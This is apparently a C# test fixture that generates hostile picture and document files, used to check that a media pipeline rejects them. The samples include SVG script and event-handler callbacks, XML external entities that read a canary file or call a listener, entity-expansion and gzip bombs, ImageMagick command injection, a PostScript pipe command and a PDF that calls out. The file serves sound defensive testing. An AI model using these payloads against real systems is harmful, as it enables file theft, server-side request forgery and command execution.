using System.IO.Compression;
using System.Text;

namespace Commerce.Media.Tests.Hostile;

/// <summary>Drawings and page descriptions that would run programs, read files or call out when opened.</summary>
internal static class VectorTricks
{
    private const string Open = "<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink' width='64' height='64'>";

    /// <param name="canary">A file nobody may read.</param>
    /// <param name="listener">An address on this machine nobody may call.</param>
    internal static IEnumerable<HostilePicture> All(string canary, string listener) =>
    [
        Svg("script", $"{Open}<script>fetch('{listener}')</script></svg>"),
        Svg("an event handler", $"{Open}<rect width='9' height='9' onload=\"fetch('{listener}')\"/></svg>"),
        Svg("an external entity from a file", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file://{canary}'>]>{Open}<text y='9'>&x;</text></svg>"),
        Svg("an external entity from the network", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM '{listener}'>]>{Open}<text y='9'>&x;</text></svg>"),
        Svg("an external parameter entity", $"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY % x SYSTEM '{listener}'> %x;]>{Open}</svg>"),
        Svg("entities that multiply", $"<?xml version='1.0'?><!DOCTYPE svg [{Multiplying()}]>{Open}<text y='9'>&e9;</text></svg>"),
        Svg("an included file", $"{Open}<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='file://{canary}' parse='text'/></svg>"),
        Svg("a picture from a file", $"{Open}<image width='64' height='64' xlink:href='file://{canary}'/></svg>"),
        Svg("a picture from the network", $"{Open}<image width='64' height='64' href='{listener}'/></svg>"),
        Svg("a shape from another file", $"{Open}<use xlink:href='file://{canary}#x'/></svg>"),
        Svg("an imported style sheet", $"{Open}<style>@import url('{listener}');</style></svg>"),
        Svg("a style sheet instruction", $"<?xml-stylesheet type='text/css' href='{listener}'?>{Open}</svg>"),
        Svg("a page inside", $"{Open}<foreignObject width='64' height='64'><body xmlns='http://www.w3.org/1999/xhtml'><iframe src='{listener}'/></body></foreignObject></svg>"),
        Svg("a font from the network", $"{Open}<style>@font-face{{font-family:a;src:url('{listener}')}}</style><text font-family='a' y='9'>a</text></svg>"),
        Svg("a filter over a huge area", $"<svg xmlns='http://www.w3.org/2000/svg' width='100000' height='100000'><filter id='f'><feGaussianBlur stdDeviation='9999'/></filter><rect width='100%' height='100%' filter='url(#f)'/></svg>"),
        Svg("spaces before it", new string(' ', 4096) + $"{Open}<image href='{listener}'/></svg>"),
        Svg("a byte order mark", $"\uFEFF{Open}<image href='{listener}'/></svg>"),
        new("SVG in UTF-16", [0xFF, 0xFE, .. Encoding.Unicode.GetBytes($"{Open}<image href='{listener}'/></svg>")]),
        new("SVG squeezed by gzip", Squeezed($"{Open}<image href='{listener}'/></svg>")),
        new("SVG that unfolds to 64 MB", Squeezed(Open + new string(' ', 64 << 20) + "</svg>")),
        Text("Magick vector graphics", $"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 'url({listener}\"|cat \"{canary})'\npop graphic-context"),
        Text("a Magick script", $"<?xml version='1.0'?><image><read filename='{listener}'/><write filename='{canary}.php'/></image>"),
        Text("PostScript that opens a file", $"%!PS\n({canary}) (r) file closefile showpage"),
        Text("an encapsulated PostScript with a pipe", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 64 64\n(%pipe%touch /tmp/canary) (w) file"),
        Text("a PDF that calls out", $"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI({listener})>>>>endobj\n%%EOF"),
        Text("a page", $"<!doctype html><script src='{listener}'></script><img src='{listener}'>"),
    ];

    private static HostilePicture Svg(string what, string drawing) => new($"SVG with {what}", Encoding.UTF8.GetBytes(drawing));

    private static HostilePicture Text(string what, string words) => new(what, Encoding.UTF8.GetBytes(words));

    private static string Multiplying() => "<!ENTITY e0 'ha'>" + string.Concat(
        Enumerable.Range(1, 9).Select(level => $"<!ENTITY e{level} '{string.Concat(Enumerable.Repeat($"&e{level - 1};", 10))}'>"));

    private static byte[] Squeezed(string text)
    {
        using var kept = new MemoryStream();
        using (var squeeze = new GZipStream(kept, CompressionLevel.Fastest, leaveOpen: true))
        {
            squeeze.Write(Encoding.UTF8.GetBytes(text));
        }
        return kept.ToArray();
    }
}
